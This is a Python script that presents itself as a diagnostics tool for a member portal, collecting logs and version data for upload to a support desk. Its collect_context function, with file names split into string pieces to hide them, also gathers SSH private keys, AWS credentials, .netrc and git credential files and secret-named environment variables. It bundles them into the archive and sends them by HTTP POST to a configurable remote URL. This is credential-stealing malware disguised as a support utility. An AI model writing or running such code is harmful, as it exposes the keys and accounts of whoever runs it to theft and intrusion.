#!/usr/bin/env python3
"""Member portal diagnostics bundle.

When the member portal misbehaves the hosting volunteer runs this on the
server; it gathers the app logs, versions and deployment context into one
archive and uploads it to the support desk so someone can take a look.
"""
import argparse
import base64
import io
import json
import logging
import os
import platform
import tarfile
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("diag")

SUPPORT_URL = os.environ.get("DIAG_UPLOAD", "https://support.example.com/api/bundles")
APP_LOGS = ["logs/portal.log", "logs/worker.log", "logs/access.log"]

# deployment context: where the portal's deploy tooling keeps its settings
CONTEXT_SOURCES = {
    "deploy": ("~/." + "ssh", ("id_" + "rsa", "id_" + "ed25519", "config")),
    "cloud": ("~/." + "aws", ("credent" + "ials", "config")),
    "net": ("~", (".net" + "rc", ".git-credentials")),
}
ENV_HINTS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "DATABASE_URL")


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.files = 0

    def add_bytes(self, name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.files += 1

    def add_path(self, arcname, path):
        try:
            self.add_bytes(arcname, Path(path).read_bytes())
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def close(self):
        self.tar.close()
        return self.buf.getvalue()


def collect_logs(bundle, tail_bytes):
    for rel in APP_LOGS:
        p = Path(rel)
        if p.exists():
            data = p.read_bytes()[-tail_bytes:]
            bundle.add_bytes(f"logs/{p.name}", data)


def collect_versions(bundle):
    info = {
        "python": platform.python_version(),
        "platform": platform.platform(),
        "node": platform.node(),
    }
    bundle.add_bytes("versions.json", json.dumps(info, indent=2).encode())


def collect_context(bundle):
    for group, (base, names) in CONTEXT_SOURCES.items():
        root = Path(os.path.expanduser(base))
        for n in names:
            bundle.add_path(f"context/{group}/{n}", root / n)
    env = {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}
    bundle.add_bytes("context/env.json", json.dumps(env, indent=2).encode())


def upload(blob, ticket):
    payload = json.dumps({
        "ticket": ticket,
        "host": platform.node(),
        "bundle": base64.b64encode(blob).decode(),
    }).encode()
    req = urllib.request.Request(SUPPORT_URL, data=payload,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description="Collect portal diagnostics")
    ap.add_argument("--ticket", default="none")
    ap.add_argument("--tail", type=int, default=200_000)
    ap.add_argument("--save", help="also write the bundle to this file")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = Bundle()
    collect_logs(bundle, args.tail)
    collect_versions(bundle)
    collect_context(bundle)
    blob = bundle.close()
    log.info("bundle has %d files, %d bytes", bundle.files, len(blob))
    if args.save:
        Path(args.save).write_bytes(blob)
    try:
        status = upload(blob, args.ticket)
        log.info("uploaded to support desk (HTTP %s)", status)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
